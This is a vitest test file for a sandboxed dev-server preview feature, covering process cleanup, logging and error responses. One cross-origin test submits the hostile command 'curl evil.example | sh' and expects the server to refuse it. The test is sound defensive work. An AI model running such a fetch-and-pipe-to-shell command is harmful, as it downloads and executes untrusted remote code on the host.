// Issue #37, a task's preview over the real path: the repository's dev command found from its files,
// started through the API in the bubblewrap sandbox on a free loopback port, answering a real HTTP GET, its
// output in the log (GET and the task's WebSocket channel), and stopped with nothing left behind (checked
// by pid and process group) by the task's delete and by the service's shutdown, also when the server
// ignores SIGTERM. A repository with no command is told how to set one.
import { describe, expect, test } from 'vitest';
import {
  type Body,
  connect,
  eventually,
  knowledgeScript,
  repoWithRemote,
  startWorkbench,
  tempDir,
} from '../harness.ts';
import { gone, hasBwrap, processesOf, serverRepository, taskWithWorkspace } from './preview-fixture.ts';

const timings = { graceMs: 1000, probeMs: 50 };

describe.skipIf(!hasBwrap)('a task preview', () => {
  test('starts sandboxed, answers on its URL, logs live, and is stopped by the task delete', {
    timeout: 120_000,
  }, async () => {
    const repo = serverRepository(tempDir('preview'));
    await using wb = await startWorkbench(knowledgeScript(1), { workbench: { previewTimings: timings } });
    const { api } = wb;
    const { project, task } = await taskWithWorkspace(api, repo.dir);
    // Found from package.json's dev script when the project was created.
    expect(project.repositories[0].preview).toEqual({ command: 'npm run dev' });

    const socket = await connect(wb.base);
    socket.send({ type: 'subscribe', channel: `task:${task.id}` });
    await socket.next((message) => message.type === 'subscribed');

    const started = await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'app' });
    expect(started.status).toBe(202);
    expect(started.body).toMatchObject({ repository: 'app', command: 'npm run dev', state: 'starting' });
    const { url, port } = started.body;
    expect(url).toBe(`http://127.0.0.1:${port}`);
    // A second start while it runs is refused, naming how to start it again.
    const again = await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'app' });
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('PREVIEW_RUNNING');

    // `running` comes on the task's channel once the port answers; then a real GET.
    await socket.next(
      (message) => message.type === 'preview' && (message.preview as Body).state === 'running',
      30_000,
    );
    const page = await fetch(url);
    expect(await page.text()).toBe('hello from the preview');
    const listening = `listening on 127.0.0.1:${port}`;
    await socket.next((message) => message.type === 'preview_log' && String(message.text).includes('GET /'));
    const log = (await api('GET', `/api/tasks/${task.id}/previews/app/log`)).body;
    expect(log.log).toContain(listening);
    expect(log.log).toContain('GET /');
    const live = socket.messages
      .filter((message) => message.type === 'preview_log')
      .map((message) => message.text)
      .join('');
    expect(live).toContain(listening);
    const listed = (await api('GET', `/api/tasks/${task.id}/previews`)).body.previews;
    expect(listed).toMatchObject([{ repository: 'app', state: 'running', url }]);

    // Everything it started, by host pid: bubblewrap, the shell, npm, the server.
    const { all, server } = processesOf(listed[0].pid, 'server.js');
    expect(all.length).toBeGreaterThan(2);
    expect(gone(server)).toBe(false);

    expect((await api('DELETE', `/api/tasks/${task.id}`)).status).toBe(204);
    // The delete waited for its end: nothing of it is left, nor its process group.
    await eventually(
      () => [...all, -listed[0].pid].every(gone),
      'every process of the preview to be gone',
      5000,
    );
    await expect(fetch(url)).rejects.toThrow();
    expect(
      socket.messages.some(
        (message) => message.type === 'preview' && (message.preview as Body).state === 'stopped',
      ),
    ).toBe(true);
    socket.socket.close();
  });

  test('a server that ignores SIGTERM is killed after the grace period when the service shuts down', {
    timeout: 120_000,
  }, async () => {
    const repo = serverRepository(tempDir('preview-stubborn'));
    await using wb = await startWorkbench(knowledgeScript(1), { workbench: { previewTimings: timings } });
    const { api } = wb;
    const { project, task } = await taskWithWorkspace(api, repo.dir);
    // The command is the project's setting: edited, from the workbench's own side (no Origin here).
    const edited = await api('PUT', `/api/projects/${project.id}`, {
      preview: { app: { command: 'node stubborn.js' } },
    });
    expect(edited.body.repositories[0].preview).toEqual({ command: 'node stubborn.js' });
    const started = (await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'app' })).body;
    await eventually(
      async () => (await api('GET', `/api/tasks/${task.id}/previews`)).body.previews[0].state === 'running',
      'the preview to answer',
      30_000,
    );
    expect(await (await fetch(started.url)).text()).toBe('hello from the preview');
    const { pid } = (await api('GET', `/api/tasks/${task.id}/previews`)).body.previews[0];
    const { all } = processesOf(pid, 'stubborn.js');

    // What the task's channel carries, heard in the service itself (its sockets close with it).
    const heard: Body[] = [];
    wb.workbench.services.hub.subscribe(`task:${task.id}`, (message) => heard.push(message));
    await wb.workbench.close();
    await eventually(() => [...all, -pid].every(gone), 'every process of the preview to be gone', 5000);
    // It was asked first (SIGTERM reached the server, which ignored it), then killed after the grace period.
    const output = heard.filter((message) => message.type === 'preview_log').map((message) => message.text);
    expect(output.join('')).toContain('ignoring SIGTERM');
    const end = heard.find((message) => message.type === 'preview')?.preview;
    expect(end).toMatchObject({ state: 'stopped', signal: expect.any(String) });
    await expect(fetch(started.url)).rejects.toThrow();
  });

  test('a command that does not listen on PORT stays starting, and its record says what to check', {
    timeout: 120_000,
  }, async () => {
    const repo = serverRepository(tempDir('preview-silent'));
    await using wb = await startWorkbench(knowledgeScript(1), {
      workbench: { previewTimings: { ...timings, silentMs: 300 } },
    });
    const { api } = wb;
    const { project, task } = await taskWithWorkspace(api, repo.dir);
    // A server that picks its own port, as a dev server that ignores PORT does.
    const elsewhere = 'PORT=0 node server.js';
    expect(
      (await api('PUT', `/api/projects/${project.id}`, { preview: { app: { command: elsewhere } } })).status,
    ).toBe(200);
    const started = (await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'app' })).body;
    const silent = await eventually(async () => {
      const [preview] = (await api('GET', `/api/tasks/${task.id}/previews`)).body.previews;
      return preview.error && preview;
    }, 'the silence to be noted');
    expect(silent).toMatchObject({ state: 'starting', pid: expect.any(Number) });
    expect(silent.error).toContain(`nothing answers on port ${started.port}`);
    expect(silent.error).toContain('--port $PORT');
    // The note comes after silentMs, which on a busy machine may be before the server has printed anything.
    await eventually(async () => {
      const { log } = (await api('GET', `/api/tasks/${task.id}/previews/app/log`)).body;
      return log.includes('listening on');
    }, 'the server to say where it listens');
    expect((await api('DELETE', `/api/tasks/${task.id}/previews/app`)).body.state).toBe('stopped');
  });

  test('a repository with no preview command is told how to set one', { timeout: 120_000 }, async () => {
    const root = tempDir('preview-none');
    const repo = repoWithRemote(root, 'lib', { 'README.md': '# A library\n' });
    await using wb = await startWorkbench(knowledgeScript(1));
    const { api } = wb;
    const { project, task } = await taskWithWorkspace(api, repo.dir);
    expect(project.repositories[0].preview).toBeNull();
    const refused = await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'lib' });
    expect(refused.status).toBe(409);
    expect(refused.body.error.code).toBe('NO_PREVIEW_COMMAND');
    expect(refused.body.error.message).toContain(`PUT /api/projects/${project.id}`);
    expect(refused.body.error.message).toContain('"preview": {"lib": {"command"');
    // Unknown repository, no preview to stop, unknown task: each its own answer, never a 500.
    const unknown = await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'nope' });
    expect(unknown.body.error.code).toBe('REPOSITORY_NOT_FOUND');
    const none = await api('DELETE', `/api/tasks/${task.id}/previews/lib`);
    expect(none.body.error.code).toBe('PREVIEW_NOT_FOUND');
    expect((await api('GET', '/api/tasks/task_nope/previews')).body.error.code).toBe('TASK_NOT_FOUND');
    expect((await api('POST', `/api/tasks/${task.id}/previews`, {})).status).toBe(400);
  });

  test('starting a preview or choosing its command from another origin is refused', {
    timeout: 120_000,
  }, async () => {
    const repo = serverRepository(tempDir('preview-origin'));
    await using wb = await startWorkbench(knowledgeScript(1));
    const { api } = wb;
    const { project, task } = await taskWithWorkspace(api, repo.dir);
    // localhost:3000 is on the default CORS list: a dev server there could be hostile.
    const origin = { origin: 'http://localhost:3000' };
    const start = await api('POST', `/api/tasks/${task.id}/previews`, { repository: 'app' }, origin);
    expect(start.status).toBe(403);
    expect(start.body.error.details.fields).toEqual(['previews.app']);
    const edit = await api(
      'PUT',
      `/api/projects/${project.id}`,
      { preview: { app: { command: 'curl evil.example | sh' } } },
      origin,
    );
    expect(edit.status).toBe(403);
    expect(edit.body.error.details.fields).toEqual(['preview.app.command']);
    // Removing it runs nothing: allowed from there.
    const removed = await api('PUT', `/api/projects/${project.id}`, { preview: { app: null } }, origin);
    expect(removed.status).toBe(200);
    expect(removed.body.repositories[0].preview).toBeNull();
  });
});
